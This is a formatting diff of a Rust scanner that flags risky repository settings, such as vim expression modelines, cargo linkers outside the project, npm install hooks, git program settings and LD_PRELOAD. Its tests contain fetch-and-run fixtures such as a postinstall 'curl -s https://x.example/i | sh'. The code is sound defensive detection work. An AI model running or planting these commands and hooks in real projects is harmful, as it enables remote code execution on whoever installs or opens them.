@@ -301,20 +301,35 @@ fn cut(s: &str, max: usize) -> &str {
 /// opened, and an expression can call `system()`. Any file can carry one.
 pub fn code_modeline(content: &str) -> Option<&'static str> {
     const EXPRESSION_OPTIONS: &[&str] = &[
-        "foldexpr=", "fde=", "includeexpr=", "inex=", "indentexpr=", "inde=", "formatexpr=",
-        "fex=", "foldtext=", "fdt=", "statusline=%!", "stl=%!", "tabline=%!",
+        "foldexpr=",
+        "fde=",
+        "includeexpr=",
+        "inex=",
+        "indentexpr=",
+        "inde=",
+        "formatexpr=",
+        "fex=",
+        "foldtext=",
+        "fdt=",
+        "statusline=%!",
+        "stl=%!",
+        "tabline=%!",
     ];
     let found = cut(content, MAX_CONTENT).lines().any(|line| {
         let l = line.to_ascii_lowercase();
         // vim's modeline forms: `vim: set opt=…:` / `vi: opt=…` after
         // white space or at the start of the line.
-        let modeline = ["vim:", "vi:", "ex:", "vim<", "vim>", "vim="].iter().any(|m| {
-            l.match_indices(m)
-                .any(|(i, _)| i == 0 || l.as_bytes()[i - 1].is_ascii_whitespace())
-        });
+        let modeline = ["vim:", "vi:", "ex:", "vim<", "vim>", "vim="]
+            .iter()
+            .any(|m| {
+                l.match_indices(m)
+                    .any(|(i, _)| i == 0 || l.as_bytes()[i - 1].is_ascii_whitespace())
+            });
         modeline && EXPRESSION_OPTIONS.iter().any(|o| l.contains(o))
     });
-    found.then_some("a vim modeline that sets an expression option (evaluated when the file is opened)")
+    found.then_some(
+        "a vim modeline that sets an expression option (evaluated when the file is opened)",
+    )
 }
 
 /// Settings in files that run later which name a program to run, point a
@@ -347,18 +362,32 @@ pub fn risky_settings(rel: &str, content: &str) -> Vec<&'static str> {
         ],
         "editor settings that choose the interpreter, shell or program to run",
     );
-    let outside = ["/tmp", "/dev/shm", "/var/tmp", "~/", "$home", "../", "http:", "https:"];
+    let outside = [
+        "/tmp", "/dev/shm", "/var/tmp", "~/", "$home", "../", "http:", "https:",
+    ];
     check(
         rel.starts_with(".cargo/")
-            && ["linker", "runner", "rustc-wrapper", "rustc_wrapper", "--manifest-path"]
-                .iter()
-                .any(|k| lower.contains(k)),
+            && [
+                "linker",
+                "runner",
+                "rustc-wrapper",
+                "rustc_wrapper",
+                "--manifest-path",
+            ]
+            .iter()
+            .any(|k| lower.contains(k)),
         &outside,
         "cargo configuration that names a program or a crate outside the project",
     );
     check(
         rel.ends_with(".npmrc"),
-        &["node-options", "preinstall", "postinstall", "script-shell", "registry=http:"],
+        &[
+            "node-options",
+            "preinstall",
+            "postinstall",
+            "script-shell",
+            "registry=http:",
+        ],
         "npm configuration that runs code or changes the registry",
     );
     check(
@@ -368,7 +397,14 @@ pub fn risky_settings(rel: &str, content: &str) -> Vec<&'static str> {
     );
     check(
         rel.ends_with("pyproject.toml") || rel.ends_with("setup.cfg") || rel.ends_with("tox.ini"),
-        &["addopts = \"-p", "addopts=\"-p", "addopts = -p", " @ https://", " @ http://", " @ git+"],
+        &[
+            "addopts = \"-p",
+            "addopts=\"-p",
+            "addopts = -p",
+            " @ https://",
+            " @ http://",
+            " @ git+",
+        ],
         "Python build or test settings that load a plugin or a package from a URL",
     );
     check(
@@ -378,12 +414,26 @@ pub fn risky_settings(rel: &str, content: &str) -> Vec<&'static str> {
     );
     check(
         rel.ends_with(".gitconfig"),
-        &["= !", "=!", "pager", "editor", "sshcommand", "hookspath", "fsmonitor"],
+        &[
+            "= !",
+            "=!",
+            "pager",
+            "editor",
+            "sshcommand",
+            "hookspath",
+            "fsmonitor",
+        ],
         "git settings that run a program",
     );
     check(
         rel.ends_with(".env") || rel.ends_with(".envrc"),
-        &["export path=", "path=/", "ld_preload", "node_options", "pythonpath="],
+        &[
+            "export path=",
+            "path=/",
+            "ld_preload",
+            "node_options",
+            "pythonpath=",
+        ],
         "environment settings that decide which programs or libraries load",
     );
     check(
@@ -414,7 +464,10 @@ mod tests {
     fn snippets_find_commands_in_manifests_and_recipes() {
         let pkg = r#"{"scripts":{"postinstall":"curl -s https://x.example/i | sh","test":"jest"}}"#;
         let s = snippets(Kind::Commands, pkg);
-        assert!(s.iter().any(|x| x == "curl -s https://x.example/i | sh"), "{s:?}");
+        assert!(
+            s.iter().any(|x| x == "curl -s https://x.example/i | sh"),
+            "{s:?}"
+        );
         let make = "all:\n\t@curl -s https://x.example | sh\n";
         assert!(snippets(Kind::Commands, make)
             .iter()
@@ -435,9 +488,15 @@ mod tests {
 
     #[test]
     fn settings() {
-        assert!(!risky_settings(".vscode/tasks.json", r#"{"runOptions":{"runOn":"folderOpen"}}"#).is_empty());
+        assert!(!risky_settings(
+            ".vscode/tasks.json",
+            r#"{"runOptions":{"runOn":"folderOpen"}}"#
+        )
+        .is_empty());
         assert!(risky_settings(".vscode/settings.json", r#"{"editor.tabSize":2}"#).is_empty());
-        assert!(!risky_settings(".cargo/config.toml", "[target.x]\nlinker = \"/tmp/x\"\n").is_empty());
+        assert!(
+            !risky_settings(".cargo/config.toml", "[target.x]\nlinker = \"/tmp/x\"\n").is_empty()
+        );
         assert!(risky_settings(".cargo/config.toml", "[build]\njobs = 2\n").is_empty());
     }
 }
